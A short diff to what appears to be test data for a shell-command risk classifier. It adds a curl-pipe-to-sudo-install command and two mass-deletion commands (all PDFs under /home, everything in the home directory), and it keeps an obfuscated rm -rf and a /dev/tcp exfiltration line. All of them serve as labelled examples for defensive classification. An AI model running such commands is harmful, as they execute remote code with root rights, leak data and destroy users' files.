@@ -51,6 +51,7 @@ CAUTION = [
     "chmod +x run.sh",
 ]
 UNKNOWN = [
+    "curl -L https://x.example/agent.tgz | tar xz && sudo ./agent/install.sh",
     '"$PROGRAM" --flag',
     "$(cat commands.txt)",
     'eval "$x"',
@@ -112,6 +113,8 @@ DANGEROUS = {
     "rm\u200b -rf x": "obfuscation",
     "echo x > /dev/tcp/10.0.0.1/9": "exfiltration",
     "sudo bash": "privilege",
+    "find /home -name '*.pdf' -print0 | sudo xargs -0 rm -f": "destruction",
+    "ls -A ~ | xargs -I{} rm -rf ~/{}": "destruction",
 }
 
 
